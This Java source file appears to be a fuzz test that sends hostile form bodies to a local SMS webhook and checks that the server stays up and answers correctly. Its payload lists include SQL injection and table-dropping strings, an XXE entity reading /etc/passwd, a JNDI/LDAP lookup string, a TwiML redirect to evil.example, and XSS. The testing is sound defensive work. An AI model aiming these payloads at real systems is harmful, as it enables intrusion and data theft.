package cn.gongkai.ops;

import cn.gongkai.gateway.sms.Twilio;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;

/**
 * (d) Hostile bodies at {@code POST /twilio/sms} of a real {@code serve}: random Unicode, control
 * and escape sequences, 100 KB texts, Lucene and SQL syntax, TwiML injection, broken UTF-8 and
 * percent-encoding, missing, duplicated and hundreds of fields; most signed as Twilio signs,
 * some unsigned or signed wrong. Passes with zero 5xx, zero unanswered requests, serve alive,
 * every 200 a well-formed TwiML {@code <Response>}, every signed well-formed body 200 and every
 * unsigned one 403.
 */
final class WebhookFuzz {
    private static final String URL = Twilio.PUBLIC + "/twilio/sms";
    private static final List<String> LUCENE = List.of("AND(", "title:(低保 OR 农保)", "*", "?", "\"未闭合", "a~0.5^3",
            "/re.*gex/", "[a TO z]", "{!func}", "\\", "+-&&||!(){}[]^\"~*?:\\/", "body:*", "NOT", "OR OR OR", "((((((((",
            "id:../../etc/passwd", "*:*");
    private static final List<String> SQL = List.of("' OR '1'='1", "'; DROP TABLE inquiries;--", "%' UNION SELECT * FROM users--",
            "1; UPDATE outbox SET status='SENT'", "\\'; PRAGMA writable_schema=1;--", "\" OR \"\"=\"", "NULL", "' || sqlite_version() || '");
    private static final List<String> MARKUP = List.of("</Body></Message><Redirect>http://evil.example</Redirect>",
            "]]><Play>x</Play>", "<![CDATA[", "&amp;&#0;&#x1F;&bogus;", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "${jndi:ldap://x/y}", "{{7*7}}", "%s%n%x", "<script>alert(1)</script>");
    private static final List<String> KEYWORDS = List.of("更多", "1", "2", "99999999999", "申请 ", "订阅 ", "退订", "STOP",
            "START", "帮助", "我是石门村的", "满意", "不满意", "进度 ", "TD", "HELP", "0", "-1", "１２３");
    private static final List<String> ESCAPES = List.of("\u001b[31m", "\u001b[2J", "\u001b]0;title\u0007", "\u0000", "\r\n",
            "\u202e", "\u200b", "\ufeff", "\ufffe", "\uffff", "\ud800", "\udfff", "\u0085", "\u2028", "\t", "\b", "\u007f");

    private final FaultRun run;

    WebhookFuzz(FaultRun run) {
        this.run = run;
    }

    /** One request: the raw form body, its signature (null: none), and what it must get. */
    private record Case(String category, byte[] body, String signature, boolean mustPass, boolean mustBeRefused) {}

    void run(int total) throws Exception {
        System.out.println("(d) fuzz " + total + " hostile bodies at POST /twilio/sms");
        Path home = Files.createDirectories(run.workDir().resolve("d"));
        try (FakeTwilioApi api = new FakeTwilioApi()) {
            ServeProcess serve = run.serve(home, api);
            int port = serve.port();
            Map<String, LongAdder> byCategory = new ConcurrentHashMap<>();
            Map<Integer, LongAdder> byStatus = new ConcurrentHashMap<>();
            List<String> problems = Collections.synchronizedList(new ArrayList<>());
            AtomicInteger next = new AtomicInteger();
            LongAdder bytes = new LongAdder();
            int threads = 8;
            long t0 = System.nanoTime();
            ExecutorService pool = Executors.newFixedThreadPool(threads);
            for (int t = 0; t < threads; t++) {
                pool.submit(() -> {
                    for (int i; (i = next.getAndIncrement()) < total; ) {
                        Case c = generate(new Random(20_251_127L + i), i);
                        byCategory.computeIfAbsent(c.category(), k -> new LongAdder()).increment();
                        bytes.add(c.body().length);
                        int status;
                        String body;
                        String type;
                        try {
                            HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/twilio/sms"))
                                    .timeout(Duration.ofSeconds(30))
                                    .header("Content-Type", "application/x-www-form-urlencoded")
                                    .POST(HttpRequest.BodyPublishers.ofByteArray(c.body()));
                            if (c.signature() != null) {
                                b.header("X-Twilio-Signature", c.signature());
                            }
                            HttpResponse<String> r = FaultRun.HTTP.send(b.build(),
                                    HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
                            status = r.statusCode();
                            body = r.body();
                            type = r.headers().firstValue("content-type").orElse("");
                        } catch (Exception e) {
                            status = -1;
                            body = e.toString();
                            type = "";
                        }
                        byStatus.computeIfAbsent(status, k -> new LongAdder()).increment();
                        String problem = judge(c, status, body, type);
                        if (problem != null && problems.size() < 20) {
                            problems.add("#" + i + " " + c.category() + ": " + problem);
                        }
                        if (problem != null) {
                            byStatus.computeIfAbsent(-999, k -> new LongAdder()).increment();
                        }
                    }
                });
            }
            pool.shutdown();
            pool.awaitTermination(30, TimeUnit.MINUTES);
            long seconds = Math.max(1, (System.nanoTime() - t0) / 1_000_000_000L);
            boolean alive = serve.alive();
            int health = -1;
            try {
                health = FaultRun.HTTP.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/health")).build(),
                        HttpResponse.BodyHandlers.ofString()).statusCode();
            } catch (Exception e) {
                // counted below
            }
            long failures = byStatus.getOrDefault(-999, new LongAdder()).sum();
            long fivexx = byStatus.entrySet().stream().filter(e -> e.getKey() >= 500).mapToLong(e -> e.getValue().sum()).sum();
            long noAnswer = byStatus.getOrDefault(-1, new LongAdder()).sum();
            Map<String, Long> cats = new TreeMap<>();
            byCategory.forEach((k, v) -> cats.put(k, v.sum()));
            Map<Integer, Long> statuses = new TreeMap<>();
            byStatus.forEach((k, v) -> {
                if (k != -999) {
                    statuses.put(k, v.sum());
                }
            });
            run.figure("(d) fuzz cases tried", total + " in " + seconds + " s (" + (bytes.sum() / 1024 / 1024) + " MB, "
                    + threads + " threads)");
            run.figure("(d) cases by kind", cats);
            run.figure("(d) replies by status", statuses);
            run.figure("(d) 5xx / no answer / failed checks", fivexx + " / " + noAnswer + " / " + failures);
            run.figure("(d) serve alive, /health after the run", alive + ", " + health);
            problems.forEach(p -> System.out.println("    " + p));
            run.check(failures == 0 && fivexx == 0 && noAnswer == 0 && alive && health == 200, "(d) fuzz found failures");
            serve.close();
        }
    }

    private static String judge(Case c, int status, String body, String type) {
        if (status == -1) {
            return "no answer: " + body;
        }
        if (status >= 500) {
            return "status " + status;
        }
        if (c.mustBeRefused() && status != 403) {
            return "unsigned but status " + status;
        }
        if (c.mustPass() && status != 200) {
            return "signed but status " + status + ": " + body;
        }
        if (status == 200) {
            if (!type.toLowerCase().contains("charset=utf-8")) {
                return "TwiML without charset: " + type;
            }
            try {
                Twilio.replyText(body);
            } catch (Throwable e) {
                return "not TwiML (" + e.getMessage() + "): " + body.substring(0, Math.min(200, body.length()));
            }
        } else if (status != 403) {
            return "status " + status;
        }
        return null;
    }

    private static Case generate(Random r, int i) {
        String sid = String.format("SMfuzz%026d", i);
        String from = String.format("+86138%08d", r.nextInt(100_000_000));
        int kind = i % 14;
        return switch (kind) {
            case 0 -> signed("unicode", from, randomUnicode(r, r.nextInt(300)), sid);
            case 1 -> signed("control-escape", from, escapes(r), sid);
            case 2 -> i % 140 == 2 ? signed("100KB", from, randomUnicode(r, 50_000) + "低保".repeat(r.nextInt(100)), sid)
                    : signed("long", from, "低保农保".repeat(100 + r.nextInt(500)), sid);
            case 3 -> signed("lucene", from, pick(r, LUCENE) + " " + pick(r, LUCENE) + " 低保", sid);
            case 4 -> signed("sql", from, pick(r, SQL) + pick(r, List.of("", " 低保", " 石门村")), sid);
            case 5 -> signed("markup", from, pick(r, MARKUP) + " " + pick(r, KEYWORDS), sid);
            case 6 -> signed("keywords", r.nextInt(10) == 0 ? "+8613800000000" : from,
                    pick(r, KEYWORDS) + randomUnicode(r, r.nextInt(8)), sid);
            case 7 -> missing(r, from, sid);
            case 8 -> duplicated(r, from, sid);
            case 9 -> brokenEncoding(r, from, sid);
            case 10 -> brokenUtf8(r, from, sid);
            case 11 -> new Case("unsigned", form(fields(from, pick(r, KEYWORDS), sid)), null, false, true);
            case 12 -> new Case("wrong-signature", form(fields(from, "低保", sid)),
                    Twilio.sign("not-the-token", URL, fields(from, "低保", sid)), false, true);
            default -> manyFields(r, from, sid);
        };
    }

    private static Map<String, String> fields(String from, String text, String sid) {
        return Twilio.sms(from, text, sid);
    }

    private static Case signed(String category, String from, String text, String sid) {
        // What Twilio would send: the text as it arrived, but never a lone surrogate (not UTF-8).
        String clean = text.codePoints().filter(cp -> cp < 0xD800 || cp > 0xDFFF)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
        Map<String, String> p = fields(from, clean, sid);
        return new Case(category, form(p), Twilio.sign(Twilio.TOKEN, URL, p), true, false);
    }

    private static Case missing(Random r, String from, String sid) {
        Map<String, String> p = fields(from, "低保", sid);
        List<String> keys = new ArrayList<>(List.of("From", "Body", "MessageSid", "SmsSid", "AccountSid", "To"));
        int drop = 1 + r.nextInt(keys.size());
        Collections.shuffle(keys, r);
        keys.subList(0, drop).forEach(p::remove);
        if (r.nextInt(5) == 0) {
            p.clear();
        }
        return new Case("missing-fields", form(p), Twilio.sign(Twilio.TOKEN, URL, p), true, false);
    }

    /** The same field twice: signed over the first value, as the server reads it. */
    private static Case duplicated(Random r, String from, String sid) {
        Map<String, String> p = fields(from, "低保", sid);
        String field = pick(r, List.of("From", "Body", "MessageSid"));
        String extra = field.equals("From") ? "+8613900000000" : field.equals("Body") ? "农保" : sid + "dup";
        String raw = new String(form(p), StandardCharsets.UTF_8) + "&" + field + "=" + URLEncoder.encode(extra, StandardCharsets.UTF_8);
        return new Case("duplicated-fields", raw.getBytes(StandardCharsets.UTF_8), Twilio.sign(Twilio.TOKEN, URL, p), false, false);
    }

    private static Case brokenEncoding(Random r, String from, String sid) {
        Map<String, String> p = fields(from, "低保", sid);
        String bad = pick(r, List.of("%", "%Z", "%ZZ", "%E4%B8", "%E4%B8%", "%%%", "%u4F4E", "%00", "+%2", "=&=&", "&&&", "%C0%AF"));
        String raw = new String(form(p), StandardCharsets.UTF_8).replace("Body=", "Body=" + bad);
        if (r.nextBoolean()) {
            raw = raw + "&" + bad + "=" + bad;
        }
        return new Case("broken-percent-encoding", raw.getBytes(StandardCharsets.UTF_8),
                Twilio.sign(Twilio.TOKEN, URL, p), false, false);
    }

    private static Case brokenUtf8(Random r, String from, String sid) {
        Map<String, String> p = fields(from, "低保", sid);
        byte[][] junk = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xE4, (byte) 0xBD}, {(byte) 0xF0, (byte) 0x9F, (byte) 0x98},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xC0, (byte) 0x80}};
        byte[] j = junk[r.nextInt(junk.length)];
        StringBuilder pct = new StringBuilder();
        for (byte b : j) {
            pct.append('%').append(String.format("%02X", b & 0xff));
        }
        byte[] head = new String(form(p), StandardCharsets.UTF_8).replace("Body=", "Body=" + pct)
                .getBytes(StandardCharsets.UTF_8);
        // Half percent-encoded bad bytes, half raw bad bytes in the body itself.
        byte[] body = head;
        if (r.nextBoolean()) {
            body = new byte[head.length + j.length + 6];
            System.arraycopy(head, 0, body, 0, head.length);
            byte[] extra = "&Raw=".getBytes(StandardCharsets.US_ASCII);
            System.arraycopy(extra, 0, body, head.length, extra.length);
            System.arraycopy(j, 0, body, head.length + extra.length, j.length);
            body[body.length - 1] = 'x';
        }
        return new Case("broken-utf8", body, Twilio.sign(Twilio.TOKEN, URL, p), false, false);
    }

    private static Case manyFields(Random r, String from, String sid) {
        Map<String, String> p = new LinkedHashMap<>(fields(from, pick(r, KEYWORDS), sid));
        int n = 50 + r.nextInt(450);
        for (int k = 0; k < n; k++) {
            p.put("X" + k + randomUnicode(r, 3), randomUnicode(r, r.nextInt(20)));
        }
        Map<String, String> clean = new LinkedHashMap<>();
        p.forEach((k, v) -> clean.put(strip(k), strip(v)));
        return new Case("many-fields", form(clean), Twilio.sign(Twilio.TOKEN, URL, clean), true, false);
    }

    private static String strip(String s) {
        return s.codePoints().filter(cp -> cp < 0xD800 || cp > 0xDFFF)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
    }

    private static byte[] form(Map<String, String> p) {
        return Twilio.form(p).getBytes(StandardCharsets.UTF_8);
    }

    private static String pick(Random r, List<String> l) {
        return l.get(r.nextInt(l.size()));
    }

    private static String escapes(Random r) {
        StringBuilder b = new StringBuilder();
        int n = 1 + r.nextInt(12);
        for (int k = 0; k < n; k++) {
            b.append(pick(r, ESCAPES)).append(r.nextBoolean() ? "低保" : "");
        }
        return b.toString();
    }

    /** Code points from every plane, control characters and lone surrogates included. */
    private static String randomUnicode(Random r, int length) {
        StringBuilder b = new StringBuilder(length);
        for (int k = 0; k < length; k++) {
            switch (r.nextInt(6)) {
                case 0 -> b.append((char) r.nextInt(0x80));
                case 1 -> b.append((char) (0x4E00 + r.nextInt(0x5200)));
                case 2 -> b.appendCodePoint(0x1F300 + r.nextInt(0x300));
                case 3 -> b.append((char) r.nextInt(0x20));
                case 4 -> b.appendCodePoint(r.nextInt(0x110000));
                default -> b.append((char) r.nextInt(0x10000));
            }
        }
        return b.toString();
    }
}
